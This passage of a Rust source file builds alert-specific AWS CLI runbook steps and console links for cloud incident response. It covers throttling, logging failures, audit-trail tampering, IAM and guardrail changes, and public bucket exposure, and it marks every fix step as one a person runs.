//! Runbook steps and console links for a finding, with the alert's real values filled in.
//!
//! The steps are data: per kind, a list of playbooks, each with a `When` (which situation it
//! fits: the triggering event, the alarm's namespace or metric) and step templates whose
//! commands carry `{placeholders}`. The first playbook that fits is used. Values come from the
//! alert itself (alarm dimensions, allow-listed request parameters, Config identifiers) and
//! from the top probable cause.
//!
//! Invariant: a value taken from an event reaches a command only shell-quoted and a URL only
//! percent-encoded, and a value that is not known is rendered as a visible `<placeholder>`,
//! never guessed, so a command is either right or visibly incomplete. vigil never runs these
//! steps; the "fix" steps say "run by a person". Pure: no I/O, no clock (times derive from the
//! alert's own time).

use std::collections::BTreeMap;

use chrono::{DateTime, Duration, Utc};

use crate::classify::last_segment;
use crate::enrich::Correlation;
use crate::model::{Alert, Change, Kind, Link, MetricRef, ProbableCause, RunbookStep};

// ----------------------------------------------------------------------------------- tables

/// Which body a playbook is for.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum On {
    Any,
    Alarm,
    ApiCall,
    Config,
}

/// Where a playbook applies. Every non-empty list must match (any of its globs); the event is
/// the alert's API call, or for alarms the top probable cause.
#[derive(Debug)]
struct When {
    on: On,
    sources: &'static [&'static str],
    events: &'static [&'static str],
    namespaces: &'static [&'static str],
    metrics: &'static [&'static str],
}

const ANY: When = When {
    on: On::Any,
    sources: &[],
    events: &[],
    namespaces: &[],
    metrics: &[],
};

const fn on(on: On) -> When {
    When {
        on,
        sources: &[],
        events: &[],
        namespaces: &[],
        metrics: &[],
    }
}

const fn event(events: &'static [&'static str]) -> When {
    When {
        on: On::Any,
        sources: &[],
        events,
        namespaces: &[],
        metrics: &[],
    }
}

const fn alarm_after(events: &'static [&'static str]) -> When {
    When {
        on: On::Alarm,
        sources: &[],
        events,
        namespaces: &[],
        metrics: &[],
    }
}

const fn source_event(sources: &'static [&'static str], events: &'static [&'static str]) -> When {
    When {
        on: On::ApiCall,
        sources,
        events,
        namespaces: &[],
        metrics: &[],
    }
}

const fn namespace(namespaces: &'static [&'static str]) -> When {
    When {
        on: On::Alarm,
        sources: &[],
        events: &[],
        namespaces,
        metrics: &[],
    }
}

const fn metric(metrics: &'static [&'static str]) -> When {
    When {
        on: On::Alarm,
        sources: &[],
        events: &[],
        namespaces: &[],
        metrics,
    }
}

/// One step template. `only_if` names a value without which the step is left out (a
/// "see the change" step with no change to see would only be noise).
#[derive(Debug)]
struct Step {
    title: &'static str,
    command: Option<&'static str>,
    link: Option<&'static str>,
    only_if: Option<&'static str>,
}

const fn cmd(title: &'static str, command: &'static str) -> Step {
    Step {
        title,
        command: Some(command),
        link: None,
        only_if: None,
    }
}

const fn note(title: &'static str) -> Step {
    Step {
        title,
        command: None,
        link: None,
        only_if: None,
    }
}

#[derive(Debug)]
struct Playbook {
    when: When,
    steps: &'static [Step],
}

const CLOUDTRAIL_EVENT_URL: &str =
    "https://{region}.console.aws.amazon.com/cloudtrailv2/home?region={region}#/events/{event_id}";

const SEE_CHANGE: Step = Step {
    title: "See the change in CloudTrail",
    command: Some(
        "aws cloudtrail lookup-events --lookup-attributes AttributeKey=EventId,AttributeValue={event_id} --region {region}",
    ),
    link: Some(CLOUDTRAIL_EVENT_URL),
    only_if: Some("event_id"),
};

const ACTOR_HISTORY: Step = Step {
    title: "Review what the same principal did around that time",
    command: Some(
        "aws cloudtrail lookup-events --lookup-attributes AttributeKey=Username,AttributeValue={username} --start-time {lookback_start} --end-time {end} --region {region}",
    ),
    link: None,
    only_if: Some("username"),
};

const ALARM_HISTORY: Step = Step {
    title: "See the alarm's recent state changes",
    command: Some(
        "aws cloudwatch describe-alarm-history --alarm-name {alarm} --history-item-type StateUpdate --max-items 10 --region {region}",
    ),
    link: None,
    only_if: Some("alarm"),
};

const ALARM_METRIC: Step = Step {
    title: "Chart the alarm's metric around the alarm",
    command: Some(
        "aws cloudwatch get-metric-statistics --namespace {namespace} --metric-name {metric} {dimensions_flag} --start-time {start} --end-time {end} --period {period} {statistics_flag} --region {region}",
    ),
    link: None,
    only_if: Some("metric"),
};

/// For an alarm (say a CloudTrail metric-filter alarm) classified as a change kind but with
/// no cause found yet: every write in the look-back window.
const RECENT_WRITES: Step = Step {
    title: "List the writes in the hour before the alarm",
    command: Some(
        "aws cloudtrail lookup-events --lookup-attributes AttributeKey=ReadOnly,AttributeValue=false --start-time {lookback_start} --end-time {end} --max-results 50 --region {region}",
    ),
    link: None,
    only_if: Some("alarm"),
};

const RESTORE_TRUST: Step = cmd(
    "Fix (run by a person): restore the intended trust policy from version control",
    "aws iam update-assume-role-policy --role-name {role} --policy-document file://<trust-policy.json>",
);

const SEE_TRUST: Step = cmd(
    "See who can assume the role now",
    "aws iam get-role --role-name {role} --query Role.AssumeRolePolicyDocument",
);

const BLOCK_PUBLIC: Step = cmd(
    "Fix (run by a person): block public access on the bucket",
    "aws s3api put-public-access-block --bucket {bucket} --public-access-block-configuration BlockPublicAcls=true,IgnorePublicAcls=true,BlockPublicPolicy=true,RestrictPublicBuckets=true",
);

const THROTTLE: &[Playbook] = &[
    // Traffic pinned to provisioned throughput falls back to on-demand quotas when the
    // throughput is deleted or shrunk: the commonest self-inflicted Bedrock throttle.
    Playbook {
        when: When {
            on: On::Alarm,
            sources: &[],
            events: &["*ProvisionedModelThroughput"],
            namespaces: &["AWS/Bedrock"],
            metrics: &[],
        },
        steps: &[
            cmd(
                "See the provisioned throughput that remains",
                "aws bedrock list-provisioned-model-throughputs --region {region}",
            ),
            SEE_CHANGE,
            cmd(
                "Chart the throttles for this model",
                "aws cloudwatch get-metric-statistics --namespace AWS/Bedrock --metric-name InvocationThrottles --dimensions Name=ModelId,Value={model_id} --start-time {start} --end-time {end} --period 300 --statistics Sum --region {region}",
            ),
            note(
                "Fix (run by a person): restore the provisioned throughput (a new commitment term) or move the traffic to on-demand or a cross-Region inference profile",
            ),
        ],
    },
    Playbook {
        when: namespace(&["AWS/Bedrock"]),
        steps: &[
            cmd(
                "See the Bedrock quotas that apply (requests and tokens per minute)",
                "aws service-quotas list-service-quotas --service-code bedrock --query \"Quotas[?contains(QuotaName, 'per minute')].[QuotaName,QuotaCode,Value]\" --output table --region {region}",
            ),
            cmd(
                "Chart the throttles for this model",
                "aws cloudwatch get-metric-statistics --namespace AWS/Bedrock --metric-name InvocationThrottles --dimensions Name=ModelId,Value={model_id} --start-time {start} --end-time {end} --period 300 --statistics Sum --region {region}",
            ),
            cmd(
                "Compare with the input token volume (token quotas throttle too)",
                "aws cloudwatch get-metric-statistics --namespace AWS/Bedrock --metric-name InputTokenCount --dimensions Name=ModelId,Value={model_id} --start-time {start} --end-time {end} --period 300 --statistics Sum --region {region}",
            ),
            SEE_CHANGE,
            cmd(
                "Mitigate (run by a person): back off and retry in the caller, spread load with a cross-Region inference profile, or ask for more quota",
                "aws service-quotas request-service-quota-increase --service-code bedrock --quota-code <quota-code> --desired-value <new-value> --region {region}",
            ),
        ],
    },
    Playbook {
        when: namespace(&["AWS/Lambda"]),
        steps: &[
            cmd(
                "Check the function's reserved concurrency",
                "aws lambda get-function-concurrency --function-name {function} --region {region}",
            ),
            cmd(
                "Check the account's concurrency limit",
                "aws lambda get-account-settings --query AccountLimit --region {region}",
            ),
            ALARM_METRIC,
            SEE_CHANGE,
            cmd(
                "Fix (run by a person): raise the function's reserved concurrency (or ask for a higher account limit)",
                "aws lambda put-function-concurrency --function-name {function} --reserved-concurrent-executions <count> --region {region}",
            ),
        ],
    },
    Playbook {
        when: namespace(&["AWS/DynamoDB"]),
        steps: &[
            cmd(
                "See the table's capacity mode and provisioned throughput",
                "aws dynamodb describe-table --table-name {table} --query \"Table.[BillingModeSummary.BillingMode,ProvisionedThroughput]\" --region {region}",
            ),
            ALARM_METRIC,
            SEE_CHANGE,
            cmd(
                "Fix (run by a person): switch the table to on-demand or raise its provisioned capacity",
                "aws dynamodb update-table --table-name {table} --billing-mode PAY_PER_REQUEST --region {region}",
            ),
        ],
    },
    Playbook {
        when: on(On::ApiCall),
        steps: &[
            SEE_CHANGE,
            cmd(
                "See the service's quotas",
                "aws service-quotas list-service-quotas --service-code {service_code} --region {region}",
            ),
            ACTOR_HISTORY,
        ],
    },
    Playbook {
        when: ANY,
        steps: &[ALARM_METRIC, ALARM_HISTORY, SEE_CHANGE],
    },
];

const INJECTION: &[Playbook] = &[
    Playbook {
        when: namespace(&["AWS/Bedrock/Guardrails"]),
        steps: &[
            cmd(
                "Check the guardrail's prompt-attack filter and its strength",
                "aws bedrock get-guardrail --guardrail-identifier {guardrail_id} --guardrail-version {guardrail_version} --query \"contentPolicy.filters[?type=='PROMPT_ATTACK']\" --region {region}",
            ),
            ALARM_METRIC,
            cmd(
                "Find where invocation logs go, to see which callers sent the blocked prompts",
                "aws bedrock get-model-invocation-logging-configuration --region {region}",
            ),
            SEE_CHANGE,
            cmd(
                "Contain (run by a person): rate-limit or block a caller that dominates; if the prompt-attack filter is below HIGH, raise it and publish a version",
                "aws bedrock create-guardrail-version --guardrail-identifier {guardrail_id} --description <why> --region {region}",
            ),
        ],
    },
    Playbook {
        when: ANY,
        steps: &[
            ALARM_METRIC,
            cmd(
                "Find where invocation logs go, to see which callers sent the blocked prompts",
                "aws bedrock get-model-invocation-logging-configuration --region {region}",
            ),
            note(
                "Contain (run by a person): rate-limit or block the caller or tenant behind the surge; check that a guardrail with a prompt-attack filter is applied to this application",
            ),
        ],
    },
];

const ACCESS_DENIED: &[Playbook] = &[
    Playbook {
        when: alarm_after(&["Detach*Policy"]),
        steps: &[
            cmd(
                "Check what the role can do now",
                "aws iam list-attached-role-policies --role-name {role}",
            ),
            SEE_CHANGE,
            cmd(
                "Fix (run by a person): re-attach the policy if its removal was not intended",
                "aws iam attach-role-policy --role-name {role} --policy-arn {policy_arn}",
            ),
        ],
    },
    Playbook {
        when: alarm_after(&["Delete*Policy"]),
        steps: &[
            cmd(
                "List the role's remaining inline policies",
                "aws iam list-role-policies --role-name {role}",
            ),
            SEE_CHANGE,
            cmd(
                "Fix (run by a person): restore the inline policy from version control",
                "aws iam put-role-policy --role-name {role} --policy-name {policy_name} --policy-document file://<policy.json>",
            ),
        ],
    },
    Playbook {
        when: alarm_after(&["UpdateAssumeRolePolicy"]),
        steps: &[SEE_TRUST, SEE_CHANGE, RESTORE_TRUST],
    },
    Playbook {
        when: on(On::ApiCall),
        steps: &[
            SEE_CHANGE,
            cmd(
                "Check whether the caller's policies allow the call",
                "aws iam simulate-principal-policy --policy-source-arn {actor_arn} --action-names {action}",
            ),
            ACTOR_HISTORY,
            note(
                "Decide (a person): if the caller should not make this call, treat its credentials as suspect; if it should, grant it the action through its role or policies",
            ),
        ],
    },
    Playbook {
        when: ANY,
        steps: &[
            cmd(
                "List the policies attached to the resource's role",
                "aws iam list-attached-role-policies --role-name {role}",
            ),
            cmd(
                "Check whether the role may make the denied call",
                "aws iam simulate-principal-policy --policy-source-arn {role_arn} --action-names {action}",
            ),
            SEE_CHANGE,
            ALARM_HISTORY,
        ],
    },
];

const ERROR_SPIKE: &[Playbook] = &[
    Playbook {
        when: namespace(&["AWS/Lambda"]),
        steps: &[
            cmd(
                "Read the function's recent errors",
                "aws logs tail /aws/lambda/{function} --since 1h --filter-pattern ERROR --region {region}",
            ),
            cmd(
                "Check the function's role, version and last change",
                "aws lambda get-function-configuration --function-name {function} --query \"[Role,Version,LastModified,LastUpdateStatus]\" --region {region}",
            ),
            SEE_CHANGE,
            ALARM_METRIC,
        ],
    },
    Playbook {
        when: namespace(&["AWS/Bedrock"]),
        steps: &[
            cmd(
                "Check the model's lifecycle status",
                "aws bedrock get-foundation-model --model-identifier {model_id} --query modelDetails.modelLifecycle --region {region}",
            ),
            cmd(
                "Check AWS Health for open Bedrock issues",
                "aws health describe-events --filter services=BEDROCK,eventStatusCodes=open --region us-east-1",
            ),
            ALARM_METRIC,
            SEE_CHANGE,
        ],
    },
    Playbook {
        when: ANY,
        steps: &[ALARM_METRIC, ALARM_HISTORY, SEE_CHANGE],
    },
];

const LATENCY: &[Playbook] = &[
    Playbook {
        when: namespace(&["AWS/Bedrock"]),
        steps: &[
            cmd(
                "Chart p99 latency for this model",
                "aws cloudwatch get-metric-statistics --namespace AWS/Bedrock --metric-name InvocationLatency --dimensions Name=ModelId,Value={model_id} --start-time {start} --end-time {end} --period 300 --extended-statistics p99 --region {region}",
            ),
            cmd(
                "Check whether completions got longer (more output tokens take longer)",
                "aws cloudwatch get-metric-statistics --namespace AWS/Bedrock --metric-name OutputTokenCount --dimensions Name=ModelId,Value={model_id} --start-time {start} --end-time {end} --period 300 --statistics Sum Average --region {region}",
            ),
            SEE_CHANGE,
            note(
                "Mitigate (run by a person): cap max tokens, stream responses, or move to a cross-Region inference profile",
            ),
        ],
    },
    Playbook {
        when: namespace(&["AWS/Lambda"]),
        steps: &[
            cmd(
                "Chart p99 duration",
                "aws cloudwatch get-metric-statistics --namespace AWS/Lambda --metric-name Duration --dimensions Name=FunctionName,Value={function} --start-time {start} --end-time {end} --period 300 --extended-statistics p99 --region {region}",
            ),
            cmd(
                "Check memory, timeout and the last change",
                "aws lambda get-function-configuration --function-name {function} --query \"[MemorySize,Timeout,LastModified]\" --region {region}",
            ),
            cmd(
                "Read recent invocation reports (duration, memory used, init time)",
                "aws logs tail /aws/lambda/{function} --since 1h --filter-pattern REPORT --region {region}",
            ),
            SEE_CHANGE,
        ],
    },
    Playbook {
        when: ANY,
        steps: &[ALARM_METRIC, ALARM_HISTORY, SEE_CHANGE],
    },
];

const LOGGING_CONFIG: Step = cmd(
    "See where Bedrock invocation logs are sent",
    "aws bedrock get-model-invocation-logging-configuration --region {region}",
);

const LOGGING_FAILURE: &[Playbook] = &[
    Playbook {
        when: metric(&["*S3DeliveryFailure"]),
        steps: &[
            LOGGING_CONFIG,
            cmd(
                "Check that the log bucket's policy still lets Bedrock write (bucket from the step above)",
                "aws s3api get-bucket-policy --bucket <log-bucket> --query Policy --output text",
            ),
            ALARM_METRIC,
            SEE_CHANGE,
        ],
    },
    Playbook {
        when: metric(&["*CloudWatchDeliveryFailure"]),
        steps: &[
            LOGGING_CONFIG,
            cmd(
                "Check that the log group still exists (name from the step above)",
                "aws logs describe-log-groups --log-group-name-prefix <log-group> --region {region}",
            ),
            cmd(
                "Check that Bedrock can still assume the logging role",
                "aws iam get-role --role-name <logging-role> --query Role.AssumeRolePolicyDocument",
            ),
            ALARM_METRIC,
            SEE_CHANGE,
        ],
    },
    Playbook {
        when: ANY,
        steps: &[LOGGING_CONFIG, ALARM_METRIC, SEE_CHANGE],
    },
];

const AUDIT_TAMPERING: &[Playbook] = &[
    Playbook {
        when: event(&["StopLogging"]),
        steps: &[
            cmd(
                "Check whether the trail is logging",
                "aws cloudtrail get-trail-status --name {trail} --region {region}",
            ),
            SEE_CHANGE,
            ACTOR_HISTORY,
            cmd(
                "Fix (run by a person): restart logging",
                "aws cloudtrail start-logging --name {trail} --region {region}",
            ),
        ],
    },
    Playbook {
        when: event(&["DeleteTrail"]),
        steps: &[
            cmd(
                "List the trails that remain",
                "aws cloudtrail describe-trails --region {region}",
            ),
            SEE_CHANGE,
            ACTOR_HISTORY,
            note(
                "Fix (run by a person): recreate the trail from infrastructure code, then start logging on it",
            ),
        ],
    },
    Playbook {
        when: event(&["UpdateTrail"]),
        steps: &[
            cmd(
                "See the trail's settings now",
                "aws cloudtrail get-trail --name {trail} --region {region}",
            ),
            SEE_CHANGE,
            ACTOR_HISTORY,
            note(
                "Fix (run by a person): if the destination or scope changed unexpectedly, re-apply the trail from infrastructure code",
            ),
        ],
    },
    Playbook {
        when: event(&["PutEventSelectors"]),
        steps: &[
            cmd(
                "See the trail's event selectors",
                "aws cloudtrail get-event-selectors --trail-name {trail} --region {region}",
            ),
            SEE_CHANGE,
            ACTOR_HISTORY,
            cmd(
                "Fix (run by a person): record management events again (this replaces all selectors: merge the data-event selectors from the step above first)",
                "aws cloudtrail put-event-selectors --trail-name {trail} --event-selectors '[{\"ReadWriteType\":\"All\",\"IncludeManagementEvents\":true}]' --region {region}",
            ),
        ],
    },
    Playbook {
        when: event(&["DeleteEventDataStore", "StopEventDataStoreIngestion"]),
        steps: &[
            cmd(
                "See the event data stores and their status",
                "aws cloudtrail list-event-data-stores --region {region}",
            ),
            SEE_CHANGE,
            ACTOR_HISTORY,
            note(
                "Fix (run by a person): restart ingestion (start-event-data-store-ingestion), or restore a deleted store within its waiting period (restore-event-data-store)",
            ),
        ],
    },
    Playbook {
        when: event(&["DeleteModelInvocationLoggingConfiguration"]),
        steps: &[
            cmd(
                "Confirm whether Bedrock invocation logging is off",
                "aws bedrock get-model-invocation-logging-configuration --region {region}",
            ),
            SEE_CHANGE,
            ACTOR_HISTORY,
            cmd(
                "Fix (run by a person): turn invocation logging back on with the saved configuration",
                "aws bedrock put-model-invocation-logging-configuration --logging-config file://<logging-config.json> --region {region}",
            ),
        ],
    },
    Playbook {
        when: event(&["StopConfigurationRecorder"]),
        steps: &[
            cmd(
                "Check the Config recorder's status",
                "aws configservice describe-configuration-recorder-status --region {region}",
            ),
            SEE_CHANGE,
            ACTOR_HISTORY,
            cmd(
                "Fix (run by a person): restart recording",
                "aws configservice start-configuration-recorder --configuration-recorder-name {recorder} --region {region}",
            ),
        ],
    },
    Playbook {
        when: event(&["DeleteConfigurationRecorder", "DeleteDeliveryChannel"]),
        steps: &[
            cmd(
                "See which Config recorders remain",
                "aws configservice describe-configuration-recorders --region {region}",
            ),
            cmd(
                "See which delivery channels remain",
                "aws configservice describe-delivery-channels --region {region}",
            ),
            SEE_CHANGE,
            ACTOR_HISTORY,
            note(
                "Fix (run by a person): recreate the recorder and delivery channel from infrastructure code, then start recording",
            ),
        ],
    },
    Playbook {
        when: ANY,
        steps: &[SEE_CHANGE, ACTOR_HISTORY, ALARM_HISTORY, RECENT_WRITES],
    },
];

const GUARDRAIL_CHANGE: &[Playbook] = &[
    Playbook {
        when: event(&["DeleteGuardrail"]),
        steps: &[
            cmd(
                "Confirm which guardrails remain",
                "aws bedrock list-guardrails --region {region}",
            ),
            SEE_CHANGE,
            ACTOR_HISTORY,
            note(
                "Fix (run by a person): recreate the guardrail from infrastructure code and point callers at the new id and version; until then calls naming the old id fail",
            ),
        ],
    },
    Playbook {
        when: ANY,
        steps: &[
            cmd(
                "See the guardrail's working draft now",
                "aws bedrock get-guardrail --guardrail-identifier {guardrail_id} --region {region}",
            ),
            cmd(
                "List its published versions",
                "aws bedrock list-guardrails --guardrail-identifier {guardrail_id} --region {region}",
            ),
            SEE_CHANGE,
            ACTOR_HISTORY,
            note(
                "Fix (run by a person): if a filter was weakened, restore it from infrastructure code and publish a version",
            ),
        ],
    },
];

const PERMISSION_CHANGE: &[Playbook] = &[
    Playbook {
        when: event(&["AttachRolePolicy"]),
        steps: &[
            cmd(
                "See the role's attached policies",
                "aws iam list-attached-role-policies --role-name {role}",
            ),
            cmd(
                "See the policy that was attached",
                "aws iam get-policy --policy-arn {policy_arn}",
            ),
            SEE_CHANGE,
            ACTOR_HISTORY,
            cmd(
                "Fix (run by a person): detach the policy if the grant was not intended",
                "aws iam detach-role-policy --role-name {role} --policy-arn {policy_arn}",
            ),
        ],
    },
    Playbook {
        when: event(&["DetachRolePolicy"]),
        steps: &[
            cmd(
                "See the role's attached policies",
                "aws iam list-attached-role-policies --role-name {role}",
            ),
            SEE_CHANGE,
            ACTOR_HISTORY,
            cmd(
                "Fix (run by a person): re-attach the policy if its removal was not intended",
                "aws iam attach-role-policy --role-name {role} --policy-arn {policy_arn}",
            ),
        ],
    },
    Playbook {
        when: event(&["PutRolePolicy"]),
        steps: &[
            cmd(
                "Read the inline policy",
                "aws iam get-role-policy --role-name {role} --policy-name {policy_name}",
            ),
            SEE_CHANGE,
            ACTOR_HISTORY,
            cmd(
                "Fix (run by a person): delete the inline policy if it was not intended",
                "aws iam delete-role-policy --role-name {role} --policy-name {policy_name}",
            ),
        ],
    },
    Playbook {
        when: event(&["DeleteRolePolicy"]),
        steps: &[
            cmd(
                "List the role's remaining inline policies",
                "aws iam list-role-policies --role-name {role}",
            ),
            SEE_CHANGE,
            ACTOR_HISTORY,
            cmd(
                "Fix (run by a person): restore the inline policy from version control",
                "aws iam put-role-policy --role-name {role} --policy-name {policy_name} --policy-document file://<policy.json>",
            ),
        ],
    },
    Playbook {
        when: event(&[
            "AttachUserPolicy",
            "DetachUserPolicy",
            "PutUserPolicy",
            "DeleteUserPolicy",
        ]),
        steps: &[
            cmd(
                "See the user's attached policies",
                "aws iam list-attached-user-policies --user-name {user}",
            ),
            cmd(
                "See the user's inline policies",
                "aws iam list-user-policies --user-name {user}",
            ),
            SEE_CHANGE,
            ACTOR_HISTORY,
            note(
                "Fix (run by a person): revert the change from infrastructure code if it was not intended",
            ),
        ],
    },
    Playbook {
        when: event(&[
            "AttachGroupPolicy",
            "DetachGroupPolicy",
            "PutGroupPolicy",
            "DeleteGroupPolicy",
        ]),
        steps: &[
            cmd(
                "See the group's attached policies",
                "aws iam list-attached-group-policies --group-name {group}",
            ),
            cmd(
                "See who is in the group",
                "aws iam get-group --group-name {group} --query Users[].UserName",
            ),
            SEE_CHANGE,
            ACTOR_HISTORY,
            note(
                "Fix (run by a person): revert the change from infrastructure code if it was not intended",
            ),
        ],
    },
    Playbook {
        when: event(&["AddUserToGroup"]),
        steps: &[
            cmd(
                "See the user's groups",
                "aws iam list-groups-for-user --user-name {user}",
            ),
            cmd(
                "See what the group grants",
                "aws iam list-attached-group-policies --group-name {group}",
            ),
            SEE_CHANGE,
            ACTOR_HISTORY,
            cmd(
                "Fix (run by a person): remove the user from the group if it was not intended",
                "aws iam remove-user-from-group --user-name {user} --group-name {group}",
            ),
        ],
    },
    Playbook {
        when: event(&["UpdateAssumeRolePolicy"]),
        steps: &[SEE_TRUST, SEE_CHANGE, ACTOR_HISTORY, RESTORE_TRUST],
    },
    Playbook {
        when: event(&["CreatePolicyVersion", "SetDefaultPolicyVersion"]),
        steps: &[
            cmd(
                "List the policy's versions and which is the default",
                "aws iam list-policy-versions --policy-arn {policy_arn}",
            ),
            SEE_CHANGE,
            ACTOR_HISTORY,
            cmd(
                "Fix (run by a person): make the previous version the default again",
                "aws iam set-default-policy-version --policy-arn {policy_arn} --version-id <previous-version-id>",
            ),
        ],
    },
    Playbook {
        when: ANY,
        steps: &[SEE_CHANGE, ACTOR_HISTORY, ALARM_HISTORY, RECENT_WRITES],
    },
];

const MODEL_ACCESS_CHANGE: &[Playbook] = &[Playbook {
    when: source_event(&["bedrock.amazonaws.com"], &[]),
    steps: &[
        Step {
            title: "Check the model's access status",
            command: Some(
                "aws bedrock get-foundation-model-availability --model-id {model_id} --region {region}",
            ),
            link: Some(
                "https://{region}.console.aws.amazon.com/bedrock/home?region={region}#/modelaccess",
            ),
            only_if: None,
        },
        SEE_CHANGE,
        ACTOR_HISTORY,
        note(
            "Fix (run by a person): if the access was not approved, remove it on the model access page and restrict bedrock:* model-access actions with an SCP",
        ),
    ],
}];

const PUBLIC_EXPOSURE: &[Playbook] = &[
    Playbook {
        when: event(&["PutBucketPolicy", "DeleteBucketPublicAccessBlock"]),
        steps: &[
            cmd(
                "Check whether the bucket is public now",
                "aws s3api get-bucket-policy-status --bucket {bucket}",
            ),
            cmd(
                "Read the bucket policy",
                "aws s3api get-bucket-policy --bucket {bucket} --query Policy --output text",
            ),
            SEE_CHANGE,
            ACTOR_HISTORY,
            BLOCK_PUBLIC,
        ],
    },
    Playbook {
        when: event(&["PutBucketAcl"]),
        steps: &[
            cmd(
                "Read the bucket ACL",
                "aws s3api get-bucket-acl --bucket {bucket}",
            ),
            SEE_CHANGE,
            ACTOR_HISTORY,
            cmd(
                "Fix (run by a person): make the ACL private",
                "aws s3api put-bucket-acl --bucket {bucket} --acl private",
            ),
            BLOCK_PUBLIC,
        ],
    },
    Playbook {
        when: event(&["DeletePublicAccessBlock"]),
        steps: &[
            cmd(
                "Check the account's public access block",
                "aws s3control get-public-access-block --account-id {account}",
            ),
            SEE_CHANGE,
            ACTOR_HISTORY,
            cmd(
                "Fix (run by a person): block public access for the account",
                "aws s3control put-public-access-block --account-id {account} --public-access-block-configuration BlockPublicAcls=true,IgnorePublicAcls=true,BlockPublicPolicy=true,RestrictPublicBuckets=true",
            ),
        ],
    },
    Playbook {
        when: event(&["DeleteBucketEncryption"]),
        steps: &[
            cmd(
                "See the bucket's default encryption now",
                "aws s3api get-bucket-encryption --bucket {bucket}",
            ),
            SEE_CHANGE,
            ACTOR_HISTORY,
            cmd(
                "Fix (run by a person): restore default encryption (SSE-KMS shown; use the key from infrastructure code)",
                "aws s3api put-bucket-encryption --bucket {bucket} --server-side-encryption-configuration '{\"Rules\":[{\"ApplyServerSideEncryptionByDefault\":{\"SSEAlgorithm\":\"aws:kms\"}}]}'",
            ),
        ],
    },
    Playbook {
        when: event(&["AddPermission*"]),
        steps: &[
            cmd(
                "Read the function's resource policy",
                "aws lambda get-policy --function-name {function} --region {region}",
            ),
            SEE_CHANGE,
            ACTOR_HISTORY,
            cmd(
                "Fix (run by a person): remove the public statement",
                "aws lambda remove-permission --function-name {function} --statement-id {statement_id} --region {region}",
            ),
        ],
    },
    Playbook {
        when: event(&["UpdateAssumeRolePolicy", "CreateRole"]),
        steps: &[SEE_TRUST, SEE_CHANGE, ACTOR_HISTORY, RESTORE_TRUST],
    },
    Playbook {
        when: source_event(&["glue.amazonaws.com"], &["PutResourcePolicy"]),
        steps: &[
            cmd(
                "Read the Data Catalog resource policy",
                "aws glue get-resource-policy --region {region}",
            ),
            SEE_CHANGE,
            ACTOR_HISTORY,
            cmd(
                "Fix (run by a person): put back the policy without the public principal",
                "aws glue put-resource-policy --policy-in-json file://<policy.json> --region {region}",
            ),
        ],
    },
    Playbook {
        when: ANY,
        steps: &[
            SEE_CHANGE,
            ACTOR_HISTORY,
            ALARM_HISTORY,
            RECENT_WRITES,
            note("Fix (run by a person): remove the public principal from the resource policy"),
        ],
    },
];

const CONFIG_DRIFT: &[Playbook] = &[
    Playbook {
        when: on(On::Config),
        steps: &[
            Step {
                title: "See which resources the rule finds non-compliant",
                command: Some(
                    "aws configservice get-compliance-details-by-config-rule --config-rule-name {config_rule} --compliance-types NON_COMPLIANT --region {region}",
                ),
                link: None,
                only_if: Some("non_compliant"),
            },
            cmd(
                "See the resource's recent configuration history",
                "aws configservice get-resource-config-history --resource-type {resource_type} --resource-id {resource_id} --limit 5 --region {region}",
            ),
            SEE_CHANGE,
            Step {
                title: "Fix (run by a person): run the rule's remediation, if one is configured",
                command: Some(
                    "aws configservice start-remediation-execution --config-rule-name {config_rule} --resource-keys resourceType={resource_type},resourceId={resource_id} --region {region}",
                ),
                link: None,
                only_if: Some("non_compliant"),
            },
        ],
    },
    Playbook {
        when: ANY,
        steps: &[SEE_CHANGE, ACTOR_HISTORY, ALARM_HISTORY, RECENT_WRITES],
    },
];

const RESOLVED: &[Playbook] = &[Playbook {
    when: ANY,
    steps: &[
        Step {
            title: "Confirm it stays OK",
            ..ALARM_HISTORY
        },
        note("Note what fixed it in the thread, so the next responder finds it"),
    ],
}];

const UNKNOWN: &[Playbook] = &[
    Playbook {
        when: on(On::ApiCall),
        steps: &[SEE_CHANGE, ACTOR_HISTORY],
    },
    Playbook {
        when: on(On::Config),
        steps: &[cmd(
            "See the resource's recent configuration history",
            "aws configservice get-resource-config-history --resource-type {resource_type} --resource-id {resource_id} --limit 5 --region {region}",
        )],
    },
    Playbook {
        when: ANY,
        steps: &[ALARM_HISTORY, ALARM_METRIC, SEE_CHANGE],
    },
];

/// The playbook tables tried for a kind, in order. Model access granted through IAM is an IAM
/// change, so it falls back to the permission playbooks.
fn tables(kind: Kind) -> &'static [&'static [Playbook]] {
    match kind {
        Kind::ThrottleSpike => &[THROTTLE],
        Kind::InjectionSurge => &[INJECTION],
        Kind::AccessDenied => &[ACCESS_DENIED],
        Kind::ErrorSpike => &[ERROR_SPIKE],
        Kind::LatencyRegression => &[LATENCY],
        Kind::LoggingFailure => &[LOGGING_FAILURE],
        Kind::AuditTampering => &[AUDIT_TAMPERING],
        Kind::GuardrailChange => &[GUARDRAIL_CHANGE],
        Kind::PermissionChange => &[PERMISSION_CHANGE],
        Kind::ModelAccessChange => &[MODEL_ACCESS_CHANGE, PERMISSION_CHANGE],
        Kind::PublicExposure => &[PUBLIC_EXPOSURE],
        Kind::ConfigDrift => &[CONFIG_DRIFT],
        Kind::Resolved => &[RESOLVED],
        Kind::Unknown => &[UNKNOWN],
    }
}

/// Every placeholder a template may use, with what is shown when its value is unknown.
const PLACEHOLDERS: &[(&str, &str)] = &[
    ("region", "<region>"),
    ("account", "<account-id>"),
    ("event_id", "<event-id>"),
    ("event_name", "<event-name>"),
    ("username", "<user-name>"),
    ("actor_arn", "<principal-arn>"),
    ("action", "<service:Action>"),
    ("service_code", "<service-code>"),
    ("role", "<role-name>"),
    ("role_arn", "<role-arn>"),
    ("policy_arn", "<policy-arn>"),
    ("policy_name", "<policy-name>"),
    ("user", "<user-name>"),
    ("group", "<group-name>"),
    ("model_id", "<model-id>"),
    ("guardrail_id", "<guardrail-id>"),
    ("guardrail_version", "<guardrail-version>"),
    ("trail", "<trail-name>"),
    ("recorder", "<recorder-name>"),
    ("function", "<function-name>"),
    ("table", "<table-name>"),
    ("bucket", "<bucket-name>"),
    ("statement_id", "<statement-id>"),
    ("alarm", "<alarm-name>"),
    ("namespace", "<namespace>"),
    ("metric", "<metric-name>"),
    ("period", "<period-seconds>"),
    ("dimensions_flag", ""),
    ("statistics_flag", "--statistics Sum Average Maximum"),
    ("config_rule", "<config-rule-name>"),
    ("resource_type", "<resource-type>"),
    ("resource_id", "<resource-id>"),
    ("start", "<start-time>"),
    ("end", "<end-time>"),
